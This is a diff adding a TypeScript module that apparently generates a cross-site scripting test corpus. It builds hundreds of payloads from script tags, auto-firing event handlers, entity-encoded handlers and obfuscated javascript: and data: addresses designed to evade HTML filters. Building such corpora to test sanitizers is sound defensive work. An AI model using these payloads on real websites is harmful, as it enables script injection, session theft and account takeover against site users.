@@ -1,0 +1,182 @@
+/** Families of `xss-corpus.ts` whose payloads are elements, handlers and addresses. */
+export type Make = (code: string, address: string) => string
+
+/** Every pairing of the two lists. */
+export const pair = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => Make): Make[] =>
+  first.flatMap((a) => second.map((b) => make(a, b)))
+
+const toDecimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('')
+const toHex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('')
+const toLongHex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16).padStart(7, '0')}`).join('')
+
+export const scriptElements: Make[] = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<ScRiPt>${code}</sCrIpT>`,
+  (code) => `<script/x>${code}</script>`,
+  (code) => `<script\n>${code}</script\n>`,
+  (code) => `<script\f>${code}</script\t>`,
+  (code) => `<script >${code}</script >`,
+  (code) => `<script x=">">${code}</script>`,
+  (code) => `<<script>${code}//<</script>`,
+  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
+  (code) => `<script>${code}`,
+  (code) => `<script>//<!--\n${code}\n//--></script>`,
+  (code) => `<!--<script>--><script>${code}</script>`,
+  (code) => `<script type=module>${code}</script>`,
+  (code) => `<script type="text/javascript" language=x>${code}</script>`,
+  (_, address) => `<script src=${address}></script>`,
+  (_, address) => `<script src="${address}" async defer></script>`,
+  (code) => `<script src="data:text/javascript,${code}"></script>`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<svg><script>${toHex(code)}</script></svg>`,
+  (code) => `<svg><script href="data:,${code}"/></svg>`,
+  (code) => `<svg><script xlink:href="data:,${code}"/></svg>`,
+  (code) => `<math><script>${code}</script></math>`,
+  (code) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
+  (code) => `<template><script>${code}</script></template>`,
+  (code) => `<noscript><script>${code}</script></noscript>`,
+  (code) => `<table><script>${code}</script></table>`,
+  (code) => `<select><script>${code}</script></select>`,
+]
+
+/** Elements whose handler runs without anybody's doing; `~` stands for what separates their attributes. */
+const selfRunning = [
+  '<img~src=x~onerror=',
+  '<svg~onload=',
+  '<body~onload=',
+  '<input~autofocus~onfocus=',
+  '<video~src=x~onerror=',
+  '<audio~src=x~onerror=',
+  '<details~open~ontoggle=',
+  '<iframe~onload=',
+  '<object~data=x~onerror=',
+  '<link~rel=stylesheet~href=x~onerror=',
+  '<p~contenteditable~autofocus~onfocus=',
+  '<image~src=x~onerror=',
+]
+const separators = [' ', '/', '\t', '\n', '\f', '\r', '  /  ', '\n\t/']
+export const handlers = pair(selfRunning, separators, (element, separator) => (code) => `${element.replaceAll('~', separator)}"${code}">`)
+
+export const handlerSpellings: Make[] = [
+  (code) => `<img src=x onerror=${code}>`,
+  (code) => `<img src=x onerror='${code}'>`,
+  (code) => `<img src=x onerror=\`${code}\`>`,
+  (code) => `<img src="x"onerror="${code}">`,
+  (code) => `<IMG SRC=x ONERROR=${code}>`,
+  (code) => `<img src=x onerror="${toDecimal(code)}">`,
+  (code) => `<img src=x onerror="${toHex(code)}">`,
+  (code) => `<img src=x onerror=${toLongHex(code)}>`,
+  (code) => `<img src=x onerror=javascript:${code}>`,
+  (code) => `<img src=x onerror = ${code} >`,
+  (code) => `<img src=x onerror\n=\n${code}>`,
+  (code) => `<img src=x on\u0000error=${code}>`,
+  (code) => `<img src=x a=">" onerror=${code}>`,
+  (code) => `<img src=x alt='"' onerror=${code} title='"'>`,
+  (code) => `<img src=x alt=\`<\` onerror=${code}>`,
+  (code) => `<img src=x <b onerror=${code}>`,
+  (code) => `<img """><img src=x onerror=${code}>">`,
+  (code) => `<img/src/onerror=${code}>`,
+  (code) => `<img src=x onerror=${code}`,
+  (code) => `<img src=x onerror=${code} `,
+  (code) => `<p onmouseover=${code} onpointerenter=${code} onwheel=${code} style="position:fixed;inset:0">x</p>`,
+  (code) => `<a onclick=${code} href=#>x</a>`,
+  (code) => `<b onauxclick=${code} onbeforecopy=${code}>x</b>`,
+  (code) => `<ul><li onscroll=${code}>x</ul>`,
+  (code) => `<div onbeforeinput=${code} contenteditable>x</div>`,
+  (code) => `<p style="animation-name:x" onanimationstart=${code} onanimationend=${code}>x</p>`,
+  (code) => `<p style="transition:color 1s" ontransitionrun=${code} ontransitionend=${code}>x</p>`,
+  (code) => `<marquee onstart=${code} loop=1 width=0>x</marquee>`,
+  (code) => `<select autofocus onfocus=${code}>`,
+  (code) => `<textarea autofocus onfocus=${code}>`,
+  (code) => `<button autofocus onfocus=${code}>x</button>`,
+  (code) => `<a tabindex=0 autofocus onfocus=${code}>x</a>`,
+  (code) => `<video><source src=x onerror=${code}></video>`,
+  (code) => `<video poster=x onloadstart=${code} src=x></video>`,
+  (code) => `<audio controls onloadstart=${code}><source src=x></audio>`,
+  (code) => `<style onload=${code}></style>`,
+  (code) => `<style onerror=${code}>@import 'x'</style>`,
+  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
+  (code) => `<svg><set onbegin=${code} attributeName=x to=1>`,
+  (code) => `<svg><image href=x onerror=${code} />`,
+  (code) => `<svg><style onload=${code}></style></svg>`,
+  (code) => `<svg><a onfocus=${code} tabindex=1 autofocus>x</a></svg>`,
+  (code) => `<input type=image src=x onerror=${code}>`,
+  (code) => `<details open ontoggle=${code}><summary>x</summary></details>`,
+  (code) => `<div popover id=p onbeforetoggle=${code}></div><button popovertarget=p autofocus>x</button>`,
+  (code) => `<dialog open oncancel=${code} onclose=${code}>x</dialog>`,
+  (code) => `<embed src=/whs/icon.svg onload=${code}>`,
+  (code) => `<object type="text/html" data="/whs/" onload=${code}></object>`,
+  (code) => `<frameset onload=${code}><frame></frameset>`,
+  (code) => `<body onpageshow=${code} onhashchange=${code} onresize=${code} onmessage=${code}>`,
+  (code) => `<custom-element oncontentvisibilityautostatechange=${code} style="display:block;content-visibility:auto">`,
+]
+
+/** Ways to write `javascript:`, and what else runs where an address stands. */
+const scriptAddresses: Make[] = [
+  (code) => `javascript:${code}`,
+  (code) => `JaVaScRiPt:${code}`,
+  (code) => ` javascript:${code}`,
+  (code) => `\tjavascript:${code}`,
+  (code) => `java\tscript:${code}`,
+  (code) => `java\nscript:${code}`,
+  (code) => `java\rscript:${code}`,
+  (code) => `\u0001javascript:${code}`,
+  (code) => `\u001fjavascript:${code}`,
+  (code) => `java&Tab;script:${code}`,
+  (code) => `java&NewLine;script&colon;${code}`,
+  (code) => `&#106;avascript:${code}`,
+  (code) => `&#0000106avascript:${code}`,
+  (code) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${code}`,
+  (code) => `javascript&#58;${code}`,
+  (code) => `javascript://%0a${code}`,
+  (code) => `javascript:/*--></a>*/${code}`,
+  (code) => `javascript:"<b>"+${code}`,
+  (code) => `vbscript:${code}`,
+  (code) => `feed:javascript:${code}`,
+  (code) => `view-source:javascript:${code}`,
+  (code) => `data:text/html,<script>${code}</script>`,
+  (code) => `data:text/html;charset=utf-8,%3Cscript%3E${code}%3C/script%3E`,
+  (code) => `DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
+]
+/** Where an address may stand; `~` is its place. */
+const addressPlaces = [
+  '<a href="~">x</a>',
+  "<a href='~' target=_blank>x</a>",
+  '<iframe src="~"></iframe>',
+  '<form action="~"><button autofocus>x</button></form>',
+]
+export const addresses = pair(addressPlaces, scriptAddresses, (place, make) => (code, host) => place.replace('~', () => make(code, host)))
+
+export const otherAddresses: Make[] = [
+  (code) => `<area href="javascript:${code}">`,
+  (code) => `<map name=m><area href="javascript:${code}" shape=default></map><img usemap=#m src=/whs/icon.svg>`,
+  (code) => `<button form=f formaction="javascript:${code}">x</button><form id=f></form>`,
+  (code) => `<input type=submit formaction="javascript:${code}">`,
+  (code) => `<object data="javascript:${code}"></object>`,
+  (code) => `<embed src="javascript:${code}">`,
+  (code) => `<applet code="javascript:${code}"></applet>`,
+  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
+  (code) => `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=20>x</text></a></svg>`,
+  (code) => `<svg><a><set attributeName=href to="javascript:${code}" /><text y=20>x</text></a></svg>`,
+  (code) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x" /></svg>`,
+  (code) => `<math href="javascript:${code}"><mtext>x</mtext></math>`,
+  (code) => `<math><maction actiontype=statusline xlink:href="javascript:${code}">x</maction></math>`,
+  (code) => `<base href="javascript:${code}//">`,
+  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  (code) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${code}</script>">`,
+  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
+  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
+  (code) => `<iframe srcdoc="&lt;img src=x onerror=parent.${code}&gt;"></iframe>`,
+  (code) => `<iframe src="about:blank" onload="${code}"></iframe>`,
+  (code) => `<img src="javascript:${code}">`,
+  (code) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
+  (code) => `<img dynsrc="javascript:${code}" lowsrc="javascript:${code}">`,
+  (code) => `<body background="javascript:${code}">`,
+  (code) => `<table background="javascript:${code}"><tr><td background="javascript:${code}">x</table>`,
+  (code) => `<a href="https://a.example&quot; onclick=&quot;${code}">x</a>`,
+  (code) => `<a href=https://a.example/"onclick="${code}">x</a>`,
+  (code) => `<a ping="javascript:${code}" href=#>x</a>`,
+  (code) => `<a href="https://user:pass@a.example/" onclick="${code}">x</a>`,
+]
+
+export const canaryHost = 'canary.example'
